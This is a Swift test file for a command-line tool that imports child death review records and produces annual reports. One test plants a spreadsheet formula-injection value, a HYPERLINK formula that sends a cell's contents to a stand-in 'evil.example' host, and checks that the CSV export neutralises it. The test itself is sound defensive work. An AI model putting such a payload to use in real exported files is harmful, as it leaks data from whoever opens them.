import CDOPTesting
import Foundation
import Testing

/// `cdop import` and `cdop report annual` through the built binary.
struct ReportCommandTests {
    static let file = [
        "reference,surname,date_of_birth,sex,area_code,date_of_death,date_notified,expected,reviewed_on,category,outcome,preventability",
        "H-1,Testchild,2008-01-02,male,NTH,2008-06-01,2008-06-02,expected,2009-02-10,8,not modifiable,not preventable",
        "H-2,Example,2020-01-02,female,EST,2024-07-01,2024-07-02,unexpected,2025-02-10,6,insufficient information,",
    ].joined(separator: "\n")

    @Test("A file is imported once; the annual report is written as HTML, CSV and JSON; progress stays off a pipe")
    func importThenReport() async throws {
        let cli = CLI()
        let path = cli.folder.path("historic.csv")
        try Data(Self.file.utf8).write(to: URL(fileURLWithPath: path))
        let imported = try await cli.run("import", path)
        #expect(
            imported.status == 0 && imported.output.contains("Imported 2 historic cases (2 reviewed)"), "\(imported)")
        #expect(imported.error.isEmpty, "no progress line when stderr is not a terminal")
        let again = try await cli.run("import", path, "--json")
        #expect(again.object?["alreadyImported"] as? Bool == true, "\(again)")

        let out = cli.folder.path("reports")
        let html = try await cli.run("report", "annual", "--year", "2024", "--out", out, "--suppress", "3")
        #expect(html.status == 0, "\(html)")
        let page = try String(contentsOfFile: out + "/annual-report-2024-25-published.html", encoding: .utf8)
        #expect(page.contains("@page { size: A4") && page.contains("<svg") && !page.contains("Testchild"))
        let csv = try await cli.run("report", "annual", "--year", "2024", "--out", out, "--format", "csv", "--json")
        #expect(
            (csv.object?["files"] as? [String])?.count == 18,
            "one file per table: 13, two three-way tables and three trends")
        let json = try await cli.run(
            "report", "annual", "--from", "2008-04-01", "--to", "2009-03-31", "--out", out, "--format", "json")
        #expect(json.status == 0, "\(json)")
        let report = try String(contentsOfFile: out + "/annual-report-2008-09.json", encoding: .utf8)
        #expect(report.contains("\"Not preventable\""))

        let rebuild = try await cli.run("rebuild", "--json")
        #expect(rebuild.status == 0 && (rebuild.object?["differences"] as? [Any])?.isEmpty == true, "\(rebuild)")
    }

    @Test("A learning theme that would start a spreadsheet formula is written to the report's CSV after a single quote")
    func hostileThemeIsNeutralisedInTheCSV() async throws {
        let cli = CLI()
        let theme = #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#
        let row =
            "H-3,Sample,2020-03-04,male,NTH,2024-08-01,2024-08-02,unexpected,2025-02-11,6,insufficient information,,"
        let lines = Self.file.split(separator: "\n").map(String.init)
        let file =
            ([lines[0] + ",learning_themes"] + lines.dropFirst().map { $0 + "," }).joined(separator: "\n")
            + "\n" + row + "\"" + theme.replacingOccurrences(of: "\"", with: "\"\"") + "\"\n"
        let path = cli.folder.path("historic.csv")
        try Data(file.utf8).write(to: URL(fileURLWithPath: path))
        let imported = try await cli.run("import", path)
        #expect(imported.status == 0, "\(imported)")

        let out = cli.folder.path("reports")
        let csv = try await cli.run("report", "annual", "--year", "2024", "--out", out, "--format", "csv")
        #expect(csv.status == 0, "\(csv)")
        let themes = try String(contentsOfFile: out + "/annual-report-2024-25-learning-themes.csv", encoding: .utf8)
        #expect(
            themes == "Theme,Reviews\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",1\r\n",
            "\(themes)")
    }

    @Test("Bad rows are named by row and column and nothing is imported; a bad option is named")
    func refusals() async throws {
        let cli = CLI()
        let path = cli.folder.path("bad.csv")
        try Data((Self.file + "\nH-3,Sample,2010-01-01,male,NTH,2010-13-01,2010-02-01,expected,,,,").utf8)
            .write(to: URL(fileURLWithPath: path))
        let refused = try await cli.run("import", path)
        #expect(refused.status == 1 && refused.error.contains("Row 4, column date_of_death"), "\(refused)")
        #expect(refused.error.contains("[import.invalidRows]"))
        let status = try await cli.run("status", "--json")
        #expect((status.object?["events"] as? Int) == 0, "\(status)")

        let noYear = try await cli.run("report", "annual")
        #expect(noYear.status == 1 && noYear.error.contains("--year"), "\(noYear)")
        let badDate = try await cli.run("report", "annual", "--from", "2025-02-30", "--to", "2025-03-31")
        #expect(
            badDate.status == 1
                && badDate.error.contains("The value '2025-02-30' is invalid for '--from <from>': not a date"),
            "\(badDate)")
    }
}
